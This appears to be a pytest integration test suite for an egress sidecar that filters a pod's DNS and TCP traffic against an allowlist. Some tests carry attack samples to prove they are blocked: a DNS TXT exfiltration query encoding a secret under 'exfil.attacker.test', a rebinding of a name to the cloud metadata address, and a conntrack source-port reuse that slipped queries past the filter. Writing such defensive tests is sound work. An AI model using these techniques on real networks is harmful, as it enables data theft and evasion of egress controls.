"""DNS-aware egress end to end (issue 11): `egress-sidecar iptables apply` redirects the app's
DNS to the real sidecar (UID 1337) in the pod namespace, which forwards what the policy allows
to a real authoritative server (tests/support/dnsauth.py) outside, on the address the pod's
resolv.conf names. Clients are dig, getent and Python's resolver as the app's UID; raw TCP
goes to echo and banner servers outside. Each outside server logs every query or connection
before answering it, so "the upstream never saw it" is checked directly. Both engines.
"""

from __future__ import annotations

import json
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.netns.conftest import APP_UID
from tests.support import netns as h
from tests.support.netns import OUT4, OUT6, SIDECAR

WEB4, NS4, DB4 = OUT4  # NS4: the pod's name server; WEB4 also serves a resolver it must not use
WEB6, NS6, DB6 = OUT6
DNSAUTH = Path(__file__).resolve().parents[1] / "support" / "dnsauth.py"

ALLOWLIST = """\
allow:
  - host: db.test
    ports: [5432, 3306]
  - host: alias.test
    ports: [6379]
  - host: short.test
    ports: [5432]
  - host: db6.test
    ports: [5432]
  - meta.test
"""

ZONE: dict[str, list[list[Any]]] = {
    "db.test": [["A", DB4, 300], ["TXT", '"v=ok"', 300]],
    "alias.test": [["CNAME", "edge.cdn.test.", 300]],
    "edge.cdn.test": [["A", WEB4, 300]],
    "short.test": [["A", NS4, 2]],
    "db6.test": [["AAAA", DB6, 300]],
    "meta.test": [["A", "169.254.169.254", 300]],
    "unlisted.test": [["A", DB4, 300]],
}


@dataclass
class Dns:
    world: h.World
    resolv: Path
    hosts: Path
    resolver: h.Upstream  # queries that reached the pod's name server
    other: h.Upstream  # queries that reached a name server the pod's resolv.conf does not name
    servers: h.Upstream  # connections that reached the raw-TCP servers

    @property
    def binds(self) -> dict[str, Path]:
        return {"/etc/resolv.conf": self.resolv, "/etc/hosts": self.hosts}

    def run(self, *argv: str, timeout: float = 20) -> tuple[int, str]:
        proc = self.world.pod.run(list(argv), uid=APP_UID, binds=self.binds, timeout=timeout)
        return proc.returncode, proc.stdout + proc.stderr

    def dig(self, *args: str) -> str:
        return self.run("dig", "+tries=1", "+time=3", *args)[1]

    def tcp(self, addr: str, port: int, send: str | None = "ping\n") -> dict[str, Any]:
        extra = ["--send", send] if send is not None else []
        return self.world.client("tcp", addr, str(port), *extra, uid=APP_UID, binds=self.binds)

    def python_resolve(self, name: str, family: str = "AF_INET") -> list[str]:
        code = (
            "import json, socket, sys\n"
            "try:\n"
            f"    infos = socket.getaddrinfo({name!r}, 5432, socket.{family}, socket.SOCK_STREAM)\n"
            "    print(json.dumps(sorted({i[4][0] for i in infos})))\n"
            "except socket.gaierror as e:\n"
            "    print(json.dumps(['error', e.errno]))\n"
        )
        out = self.run(sys.executable, "-c", code)[1]
        result: list[str] = json.loads(out.strip().splitlines()[-1])
        return result

    def saw(self, upstream: h.Upstream, name: str, mark: int = 0) -> bool:
        return any(r.get("name") == name for r in upstream.since(mark))


def _auth(world: h.World, name: str, listen: list[str]) -> h.Upstream:
    zone = world.workdir / f"{name}.zone.json"
    zone.write_text(json.dumps(ZONE))
    log, ready = world.workdir / f"{name}.jsonl", world.workdir / f"{name}.ready"
    argv = [sys.executable, str(DNSAUTH), "--zone", str(zone), "--log", str(log)]
    argv += ["--ready", str(ready)] + [arg for a in listen for arg in ("--listen", a)]
    output = world.workdir / f"{name}.out"
    proc = world.outside.popen(argv, output=output)
    h.wait_for(ready.exists, 15, f"{name} dns server", proc, output)
    return h.Upstream(log)


@pytest.fixture(scope="module")
def dns_world(world: h.World) -> Dns:
    w = world
    resolver = _auth(w, "resolver", [f"{NS4}:53", f"[{NS6}]:53"])
    other = _auth(w, "other", [f"{WEB4}:53", f"[{WEB6}]:53"])
    servers = w.start_servers(
        w.outside,
        "tcp",
        echo=[f"{DB4}:5432", f"{DB4}:5433", f"{WEB4}:6379", f"{NS4}:5432", f"[{DB6}]:5432"],
        banner=[f"{DB4}:3306"],
    )
    resolv = w.workdir / "pod-resolv.conf"
    resolv.write_text(
        "search shop.svc.cluster.local svc.cluster.local cluster.local\n"
        f"nameserver {NS4}\nnameserver {NS6}\noptions ndots:5 timeout:2 attempts:1\n"
    )
    resolv.chmod(0o644)
    hosts = h.hosts_file(w.workdir / "app-hosts", {})
    # As egress-init: the pod's resolv.conf names the servers whose DNS is redirected.
    proc = w.pod.run(
        [*SIDECAR, "iptables", "apply", "--ipv6", "on"],
        binds={"/etc/resolv.conf": resolv},
        timeout=30,
    )
    assert proc.returncode == 0, proc.stderr
    assert "redirected to port 15053" in proc.stderr
    return Dns(w, resolv, hosts, resolver, other, servers)


@dataclass
class Pod:
    dns: Dns
    sidecar: h.PodSidecar
    engine: str

    def decisions(self, protocol: str, host: str | None = None) -> list[dict[str, Any]]:
        return [
            d
            for d in h.decisions(self.sidecar.out)
            if d["protocol"] == protocol and (host is None or d.get("host") == host)
        ]

    def wait_decision(self, protocol: str, host: str | None = None) -> dict[str, Any]:
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline:
            found = self.decisions(protocol, host)
            if found:
                return found[-1]
            time.sleep(0.05)
        raise AssertionError(f"no {protocol} decision for {host}")


@pytest.fixture(scope="module", params=["fast", "mitmproxy"])
def pod(request: pytest.FixtureRequest, dns_world: Dns) -> Iterator[Pod]:
    engine: str = request.param
    sidecar = h.start_pod_sidecar(
        dns_world.world,
        ALLOWLIST,
        {},
        private_ranges=("198.18.0.0/15", "fd00:e5::/64"),
        listen6="::1:15002",
        extra=[
            "--engine", engine, "--dns-resolv-conf", str(dns_world.resolv),
            "--dns-min-ttl", "0", "--first-byte-timeout", "10",
        ],
    )  # fmt: skip
    try:
        yield Pod(dns_world, sidecar, engine)
    finally:
        sidecar.proc.terminate()
        sidecar.proc.wait(20)


def test_allowed_names_resolve_with_dig_getent_and_python(pod: Pod) -> None:
    d = pod.dns
    assert DB4 in d.dig("+short", "db.test")
    assert DB4 in d.dig("+short", "+tcp", "db.test")  # TCP DNS, redirected too
    code, out = d.run("getent", "ahostsv4", "db.test")
    assert code == 0 and DB4 in out, out
    assert d.python_resolve("db.test") == [DB4]
    assert d.saw(d.resolver, "db.test")
    line = pod.wait_decision("DNS", "db.test")
    assert (line["decision"], line["rule"]) == ("allow", "{host: db.test, ports: [5432, 3306]}")
    assert line["address"] == NS4  # forwarded to the pod's own name server


def test_unlisted_name_is_nxdomain_and_never_reaches_the_resolver(pod: Pod) -> None:
    d = pod.dns
    mark = len(d.resolver.records())
    out = d.dig("unlisted.test")
    assert "status: NXDOMAIN" in out and "egress-sidecar: no allow rule matches" in out
    code, _ = d.run("getent", "hosts", "unlisted.test")
    assert code == 2  # not found
    assert d.python_resolve("unlisted.test")[0] == "error"
    assert not d.saw(d.resolver, "unlisted.test", mark)
    line = pod.wait_decision("DNS", "unlisted.test")
    assert (line["decision"], line["reason"]) == ("deny", "no allow rule matches")


# A DNS query over UDP from a chosen source port: what came back, or how it failed.
_QUERY_FROM_PORT = """\
import json, socket, sys
import dns.message
port, name, server = int(sys.argv[1]), sys.argv[2], sys.argv[3]
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
sock.bind(("0.0.0.0", port))
sock.connect((server, 53))
sock.settimeout(4)
try:
    sock.send(dns.message.make_query(name, "A").to_wire())
    reply = dns.message.from_wire(sock.recv(65535))
except (PermissionError, ConnectionRefusedError):  # a REJECT in OUTPUT: EPERM on the send
    print(json.dumps(["rejected"]))
except TimeoutError:
    print(json.dumps(["timeout"]))
else:
    found = sorted(r.address for rrset in reply.answer for r in rrset if hasattr(r, "address"))
    print(json.dumps([dns.rcode.to_text(reply.rcode()), found]))
"""


def _query_from_port(pod: Pod, uid: int, port: int, name: str) -> list[Any]:
    proc = pod.dns.world.pod.run(
        [sys.executable, "-c", _QUERY_FROM_PORT, str(port), name, NS4],
        uid=uid,
        binds=pod.dns.binds,
    )
    assert proc.stdout.strip(), proc.stderr
    result: list[Any] = json.loads(proc.stdout.strip().splitlines()[-1])
    return result


def test_a_query_riding_a_conntrack_entry_of_the_sidecar_does_not_get_out(pod: Pod) -> None:
    """The sidecar forwards a query from source port P (its socket then closed); the app binds
    P and asks the same name server. The kernel files the app's datagram under the sidecar's
    conntrack entry, so the nat table's REDIRECT never sees it: before the filter rules took
    only replies as ESTABLISHED, it reached the name server and came back answered, past the
    sidecar's policy (seen in CI: unlisted.test resolved). Now it is rejected."""
    d = pod.dns
    port = 40053
    # As the sidecar's UID: not redirected, answered by the name server itself.
    assert _query_from_port(pod, h.PROXY_UID, port, "db.test") == ["NOERROR", [DB4]]
    mark = len(d.resolver.records())
    assert _query_from_port(pod, APP_UID, port, "unlisted.test") == ["rejected"]
    assert not d.saw(d.resolver, "unlisted.test", mark)
    # From any other port the app's query is the sidecar's to answer, as always.
    assert _query_from_port(pod, APP_UID, port + 1, "unlisted.test") == ["NXDOMAIN", []]
    assert not d.saw(d.resolver, "unlisted.test", mark)


def test_txt_exfiltration_is_refused(pod: Pod) -> None:
    d = pod.dns
    leak = "bXktc2VjcmV0.c2.exfil.attacker.test"
    mark = len(d.resolver.records())
    out = d.dig("TXT", leak)
    assert "status: NXDOMAIN" in out
    assert not d.saw(d.resolver, leak.lower(), mark)
    assert '"v=ok"' in d.dig("+short", "TXT", "db.test")  # TXT to an allowed name: answered


def test_dns_to_another_resolver_is_refused(pod: Pod) -> None:
    d = pod.dns
    out = d.dig(f"@{WEB4}", "db.test") + d.dig(f"@{WEB6}", "db.test")
    assert "status: NOERROR" not in out
    tcp = d.dig(f"@{WEB4}", "+tcp", "db.test")  # TCP 53 elsewhere: decided as raw TCP, denied
    assert "status: NOERROR" not in tcp
    assert not d.other.records()


def test_tcp_to_a_learned_address_on_the_rules_port_passes(pod: Pod) -> None:
    d = pod.dns
    assert d.python_resolve("db.test") == [DB4]
    mark = d.servers.mark()
    ok = d.tcp(DB4, 5432)
    assert ok["received"] == "ping\n", ok
    refused = d.tcp(DB4, 5433)
    assert refused["received"] == "", refused
    time.sleep(0.3)
    locals_ = [r["local"] for r in d.servers.since(mark) if r["event"] == "accept"]
    assert locals_ == [f"{DB4}:5432"]
    allowed = [x for x in pod.decisions("TCP", "db.test") if x["port"] == 5432]
    assert allowed and allowed[-1]["decision"] == "allow"
    assert allowed[-1]["rule"] == "{host: db.test, ports: [5432, 3306]}"
    denied = [x for x in pod.decisions("TCP") if x["port"] == 5433]
    assert denied and denied[-1]["decision"] == "deny" and denied[-1].get("host") is None


def test_server_speaks_first_to_a_learned_address(pod: Pod) -> None:
    """The upstream is opened before the client speaks (a banner within the client's 5 s; the
    first-byte bound is 10 s)."""
    d = pod.dns
    assert d.python_resolve("db.test") == [DB4]
    got = d.tcp(DB4, 3306, send=None)
    assert got["received"].startswith("220 banner from"), got


def test_cname_chain_keeps_the_asked_name(pod: Pod) -> None:
    d = pod.dns
    assert d.python_resolve("alias.test") == [WEB4]
    assert d.tcp(WEB4, 6379)["received"] == "ping\n"
    line = pod.wait_decision("TCP", "alias.test")
    assert line["decision"] == "allow" and line["port"] == 6379


def test_learned_address_expires_with_its_ttl(pod: Pod) -> None:
    d = pod.dns
    assert d.python_resolve("short.test") == [NS4]
    assert d.tcp(NS4, 5432)["received"] == "ping\n"
    time.sleep(2.5)  # the answer's TTL is 2 s (--dns-min-ttl 0)
    before = len([x for x in pod.decisions("TCP") if x.get("address") == NS4])
    assert d.tcp(NS4, 5432)["received"] == ""
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:
        lines = [x for x in pod.decisions("TCP") if x.get("address") == NS4]
        if len(lines) > before:
            break
        time.sleep(0.05)
    assert (lines[-1]["decision"], lines[-1]["reason"]) == ("deny", "no allow rule matches")
    assert lines[-1].get("host") is None


def test_rebinding_to_the_metadata_address_is_filtered(pod: Pod) -> None:
    d = pod.dns
    out = d.dig("meta.test")
    assert "status: NXDOMAIN" in out and "169.254.169.254" not in out.split("ANSWER SECTION")[-1]
    assert d.saw(d.resolver, "meta.test")  # asked (the name is allowed); the answer refused
    line = pod.wait_decision("DNS", "meta.test")
    assert (line["decision"], line["reason"]) == ("deny", "private address")


def test_ipv6_dns_and_tcp_to_a_learned_address(pod: Pod) -> None:
    d = pod.dns
    out = d.dig(f"@{NS6}", "+short", "AAAA", "db6.test")  # ip6tables redirects to ::1:15053
    assert DB6 in out, out
    assert d.python_resolve("db6.test", "AF_INET6") == [DB6]
    assert d.tcp(DB6, 5432)["received"] == "ping\n"
    line = pod.wait_decision("TCP", "db6.test")
    assert line["decision"] == "allow"
